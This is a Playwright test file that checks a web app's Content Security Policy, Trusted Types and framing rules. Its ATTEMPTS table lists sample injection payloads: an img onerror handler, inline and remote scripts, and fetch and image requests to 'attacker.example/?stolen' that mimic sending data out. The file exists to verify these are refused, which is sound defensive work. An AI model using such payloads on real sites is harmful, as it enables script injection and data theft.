import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { MapPage } from './map-page';
import { expect, test } from './test';

const SLUG = 'ukraine-guarantees';

/** What someone might try who got markup or a script into the page, and the words of its refusal. */
const ATTEMPTS = {
	'a script in the page': {
		attempt: () => {
			const script = document.createElement('script');
			script.append('window.broken = true');
			document.body.append(script);
		},
		refusal: "requires 'TrustedScript'"
	},
	'a script from elsewhere': {
		attempt: () => {
			const script = document.createElement('script');
			script.setAttribute('src', 'https://attacker.example/script.js');
			document.body.append(script);
		},
		refusal: 'violation: require-trusted-types-for'
	},
	'text that is run as a script': {
		attempt: () => {
			setTimeout('window.broken = true');
		},
		refusal: 'violation: require-trusted-types-for'
	},
	'markup with a script in an attribute': {
		attempt: () => {
			document.body.innerHTML += '<img src="nothing" onerror="window.broken = true">';
		},
		refusal: 'violation: require-trusted-types-for'
	},
	'a worker out of a text': {
		attempt: () => {
			new Worker(URL.createObjectURL(new Blob(['close()'])));
		},
		refusal: 'violation: require-trusted-types-for'
	},
	'a request to another site': {
		attempt: async () => {
			await fetch('https://attacker.example/?stolen');
		},
		refusal: 'violation: connect-src'
	},
	'a picture from another site': {
		attempt: () => {
			new Image().src = 'https://attacker.example/?stolen';
		},
		refusal: 'violation: img-src'
	},
	'a style sheet in the page': {
		attempt: () => {
			const sheet = document.createElement('style');
			sheet.append('body { display: none }');
			document.head.append(sheet);
		},
		refusal: 'violation: style-src'
	},
	'another base for all links': {
		attempt: () => {
			const base = document.createElement('base');
			base.href = 'https://attacker.example/';
			document.head.append(base);
		},
		refusal: 'violation: base-uri'
	},
	'a frame': {
		attempt: () => {
			const frame = document.createElement('iframe');
			frame.src = 'https://attacker.example/';
			document.body.append(frame);
		},
		refusal: 'violation: frame-src'
	}
};

for (const [name, { attempt, refusal }] of Object.entries(ATTEMPTS)) {
	test(`the page refuses ${name}`, async ({ page, incidents }) => {
		const reached: string[] = [];
		await page.route('https://attacker.example/**', async (route) => {
			reached.push(route.request().url());
			await route.abort();
		});
		await page.goto(`/${SLUG}`);
		await expect(page.getByRole('tab', { name: 'Countries' })).toBeVisible();
		// What the attempt itself throws is part of the refusal.
		await page.evaluate(attempt).catch(() => undefined);
		await expect.poll(() => incidents.join('\n')).toContain(refusal);
		expect(await page.evaluate(() => 'broken' in window)).toBe(false);
		await expect(page.getByRole('tab', { name: 'Countries' })).toBeVisible();
		expect(reached).toEqual([]);
		incidents.length = 0;
	});
}

test('the policy stands before every script and style sheet of every kind of page', async ({
	request
}) => {
	for (const path of ['', SLUG, `embed/${SLUG}`, `embed/${SLUG}/frozen`]) {
		const html = await (await request.get(`/${path}`)).text();
		const policy = html.search(/<meta http-equiv="content-security-policy"/i);
		expect(policy, path).toBeGreaterThan(0);
		expect(html.search(/<(script|style|link|img)/), path).toBeGreaterThan(policy);
	}
});

test('only embeds can be put into the frame of another site', async ({
	page,
	baseURL,
	incidents
}) => {
	const host = createServer((_, response) => {
		response.setHeader('content-type', 'text/html');
		response.end(
			[`embed/${SLUG}`, `embed/${SLUG}/frozen`, SLUG, '']
				.map((path) => `<iframe src="${baseURL}/${path}"></iframe>`)
				.join('')
		);
	});
	await new Promise<void>((resolve) => host.listen(0, '127.0.0.1', resolve));
	await page.goto(`http://127.0.0.1:${(host.address() as AddressInfo).port}/`);
	const frame = (index: number) => page.frameLocator('iframe').nth(index);
	for (const embed of [0, 1]) {
		const link = frame(embed).getByRole('link', { name: /^Open in Sourceline/ });
		await expect(link).toBeVisible();
	}
	await expect
		.poll(() => incidents.filter((text) => text.includes('frame-ancestors')).length)
		.toBe(2);
	for (const refused of [2, 3]) {
		await expect(frame(refused).getByRole('heading', { level: 1 })).toHaveCount(0);
	}
	incidents.length = 0;
	host.close();
	host.closeAllConnections();
});

test('workers may ask nothing of another site either', async ({ page, request }) => {
	const workers: string[] = [];
	page.on('worker', (worker) => workers.push(worker.url()));
	await new MapPage(page).open();
	expect(workers.length).toBeGreaterThan(0);
	for (const address of new Set(workers)) {
		const policy = (await request.get(address)).headers()['content-security-policy'];
		expect(policy).toContain("default-src 'none'");
		expect(policy).toContain("connect-src 'self'");
	}
});

test('what is not there is answered with the same care', async ({ request }) => {
	const answer = await request.get('/no-such-page');
	expect(answer.status()).toBe(404);
	expect(answer.headers()).toMatchObject({
		'content-security-policy': "frame-ancestors 'none'",
		'x-content-type-options': 'nosniff',
		'cross-origin-opener-policy': 'same-origin'
	});
	expect(answer.headers()['content-type']).toContain('text/plain');
});
